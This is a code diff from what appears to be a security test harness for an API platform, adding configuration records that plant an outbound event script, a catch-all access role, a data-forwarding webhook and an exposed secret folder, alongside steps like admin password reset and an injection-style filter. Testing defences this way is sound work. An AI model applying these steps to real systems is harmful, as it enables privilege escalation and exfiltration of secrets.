@@ -16,6 +16,11 @@ export const writesOf = (tabs: readonly AccessTab[]) =>
 
 const post = (path: string, ...resource: object[]): Step => ({ verb: 'POST', path, body: { resource } })
 const patch = (path: string, body: object): Step => ({ verb: 'PATCH', path, body })
+const configure = (...records: object[]): Step => ({
+  verb: 'POST',
+  path: 'system/config',
+  body: { format: 1, owner: 'evil', adopt: true, prune: false, records },
+})
 const service = (name: string, type: string, config: object) =>
   post('system/service', { name, label: name, type, is_active: true, config })
 
@@ -68,10 +73,34 @@ function byHand({ instance: { root }, wideRole, app, services }: World, url: str
     patch(`system/service/${services.chief}`, { config: { confirm_writes: 'off' } }),
     patch(`system/service/${services.remote}`, { config: { base_url: url } }),
     patch(`system/service/${services.remote}`, { config: { options: { PROXY: null, ' curlopt_proxy ': url } } }),
+    ...everythingByConfig(url).map((record) => configure(record)),
+    configure(...everythingByConfig(url)),
     { verb: 'PUT', path: 'files/trusted/script.js', body: `event.response.content = '${url}'` },
     { verb: 'POST', path: 'system/admin/password?reset=true', body: { email: root.email } },
     { verb: 'GET', path: 'system/outbox' },
     { verb: 'GET', path: 'system/role?related=*' },
     { verb: 'GET', path: 'system/data_history?service=vault&table=item&filter=id>0)%20or%20(id>0' },
+  ]
+}
+
+/** Records of configuration that run code, hand out rights, or send secrets elsewhere. */
+function everythingByConfig(url: string): readonly object[] {
+  const verb_mask = ['GET', 'POST', 'PUT', 'PATCH', 'DELETE']
+  const access = [{ service: null, component: '*', verb_mask, requestor_mask: ['API', 'SCRIPT'] }]
+  const code = `await platform.api.get('${url}?' + '{canary.pin}')`
+  return [
+    { type: 'event_script', name: 'system.role.get', values: { type: 'nodejs', is_active: true, content: code } },
+    { type: 'service', name: 'evil1', values: { type: 'nodejs', config: { content: code } } },
+    { type: 'service', name: 'remote', values: { type: 'rws', config: { base_url: url } } },
+    {
+      type: 'service',
+      name: 'archive',
+      values: { type: 'local_file', config: { container: 'archive', public_path: ['secret'] } },
+    },
+    { type: 'scheduler', name: 'evil1', values: { service: 'system', component: 'admin', verb_mask: ['GET'] } },
+    { type: 'role', name: 'evil1', values: { is_active: true, access } },
+    { type: 'app', name: 'evil1', values: { type: 0, is_active: true, role: 'evil1' } },
+    { type: 'lookup', name: 'link', values: { value: url } },
+    { type: 'webhook', name: 'evil1', values: { url, events: ['vault.*'], include_data: true, is_active: true } },
   ]
 }
